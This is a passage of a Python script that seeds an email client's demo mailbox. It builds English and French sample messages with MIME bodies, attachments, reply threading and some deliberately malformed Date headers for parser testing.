        Spec("s1", (3, "15:02"), DEMO, EMILY, "Re: Q4 delivery schedule",
             "Hello Emily,\nWe can ship the first batch on December 12 and the rest the week after.\n\nDominique\n",
             folder="Sent", answers="d3b"),
        Spec("s2", (4, "10:02"), DEMO, IT, "Re: Déménagement du serveur de fichiers samedi",
             "Bonjour,\nJe peux vérifier les accès lundi à la première heure.\n\nDominique\n", folder="Sent", answers="d4a", cc=(CAMILLE,)),
        Spec("s3", (1, "10:15"), DEMO, MARC, "Re: Budget 2025 – première version",
             "Merci Marc, je regarde ça demain matin.\n\nDominique\n", folder="Sent", answers="y2"),
        Spec("s4", (6, "12:00"), DEMO, BOB, "Re: Board games night",
             "Count me in! I'll bring crêpes.\n\nDominique\n", folder="Sent", answers="d6b"),
        Spec("s5", (9, "16:00"), DEMO, ALICE, "Re: Recette du gratin dauphinois",
             "Merci ! Promis, pas de fromage.\n", folder="Sent", answers="d9c"),
        Spec("s6", (12, "10:00"), DEMO, SOPHIE, "Re: Bienvenue à Julien Mercier dans l'équipe",
             "Bienvenue Julien ! Je lui fais visiter les locaux lundi.\n", folder="Sent", answers="d12a"),
    ]


def message_id(spec):
    domain = spec.frm[1].split("@")[1]
    return f"<{spec.key}.{abs(zlib.crc32(spec.subject.encode())):08x}@{domain}>"


def _when(spec, now):
    """Resolve spec.when against `now` (aware, local time)."""
    midnight = now.replace(hour=0, minute=0, second=0, microsecond=0)
    if spec.when[0] == "today":
        # Spread over the part of today that has passed, so it is always today.
        return midnight + (now - midnight) * spec.when[1]
    days, hhmm = spec.when
    hh, mm = map(int, hhmm.split(":"))
    day = now.date() - timedelta(days=days)
    # Naive local time -> aware, so the offset is right across DST changes.
    return datetime(day.year, day.month, day.day, hh, mm, 7).astimezone()


def _attachment(filename, kind, payload):
    if kind == "pdf":
        part = MIMEApplication(tiny_pdf(payload), "pdf")
    elif kind == "png":
        part = MIMEImage(tiny_png(seed=payload), "png")
    elif kind == "csv":
        part = MIMEText(payload, "csv", UTF8_QP)
    else:
        part = MIMEText(payload, "plain", UTF8_QP)
    del part["MIME-Version"]
    try:
        filename.encode("ascii")
        part.add_header("Content-Disposition", "attachment", filename=filename)
    except UnicodeEncodeError:  # RFC 2231 parameter
        part.add_header("Content-Disposition", "attachment", filename=("utf-8", "", filename))
    return part


def _body(spec, n):
    charset = Charset("iso-8859-1") if spec.enc == "latin1" else UTF8_QP
    text = MIMEText(spec.body, "plain", charset)
    if spec.html:
        html = MIMEText(spec.html, "html", UTF8_QP)
        alt = MIMEMultipart("alternative", boundary=f"=_alt_{n:03d}")
        for part in (text, html):
            del part["MIME-Version"]
            alt.attach(part)
        body = alt
    else:
        body = text
    if spec.attachments:
        mixed = MIMEMultipart("mixed", boundary=f"=_mixed_{n:03d}")
        if body is not text:
            del body["MIME-Version"]
        else:
            del text["MIME-Version"]
        mixed.attach(body)
        for filename, kind, payload in spec.attachments:
            mixed.attach(_attachment(filename, kind, payload))
        body = mixed
    if body["MIME-Version"] is None:
        body["MIME-Version"] = "1.0"
    return body


def _render(spec, n, date, ids, by_key):
    headers = []
    if spec.date == "normal":
        # Same instant as INTERNALDATE, written in the sender's time zone.
        headers.append(("Date", format_datetime(date.astimezone(timezone(timedelta(hours=spec.tz))))))
    elif spec.date == "garbage1":
        headers.append(("Date", "not a valid date"))
    elif spec.date == "garbage2":
        headers.append(("Date", "Sun, 32 Foo 2024 25:61:00 +9999"))
    headers.append(("From", addr(spec.frm)))
    headers.append(("To", addr(spec.to)))
    if spec.cc:
        headers.append(("Cc", ", ".join(addr(p) for p in spec.cc)))
    headers.append(("Subject", encode_subject(spec.subject, spec.enc)))
    headers.append(("Message-ID", ids[spec.key]))
    if spec.answers:
        parent = by_key[spec.answers]
        chain = [ids[parent.key]]
        while parent.answers:
            parent = by_key[parent.answers]
            chain.insert(0, ids[parent.key])
        headers.append(("In-Reply-To", chain[-1]))
        headers.append(("References", " ".join(chain)))
    headers.extend(spec.extra_headers)
    if spec.frm == DEMO:
        headers.append(("User-Agent", "Facteur demo seed"))
    head = "".join(f"{k}: {v}\n" for k, v in headers).encode("utf-8")
    raw = head + _body(spec, n).as_bytes()
    # IMAP wants CRLF everywhere.
    return raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def build(now=None):
    """All demo messages as Seeds (INBOX and Sent), oldest first."""
    now = (now or datetime.now()).astimezone()
    specs = _specs()
    by_key = {s.key: s for s in specs}
    ids = {s.key: message_id(s) for s in specs}
    ids["t1"] = FIRST_MESSAGE_ID
    seeds = []
    for n, spec in enumerate(specs):
        date = _when(spec, now)
        raw = _render(spec, n, date, ids, by_key)
        seeds.append(Seed(spec.folder, spec.flags, date, raw, ids[spec.key]))
    seeds.sort(key=lambda s: s.internaldate)
    return seeds


def bounce_trigger_message(now=None):
    """The RFC 5322 bytes of the message that will bounce."""
    now = (now or datetime.now()).astimezone()
    b = BOUNCE_TRIGGER
    msg = MIMEText(b["body"], "plain", UTF8_QP)
    msg["Date"] = format_datetime(now)
    msg["From"] = addr(b["from"])
    msg["To"] = addr(b["to"])
    msg["Subject"] = Header(b["subject"], "utf-8").encode()
    msg["Message-ID"] = b["message_id"]
    msg["User-Agent"] = "Facteur demo seed"
    return msg.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


if __name__ == "__main__":  # quick look: python3 demo_corpus.py
    for s in build():
        print(s.folder, " ".join(s.flags) or "-", s.internaldate.isoformat(timespec="seconds"), len(s.raw), s.message_id)
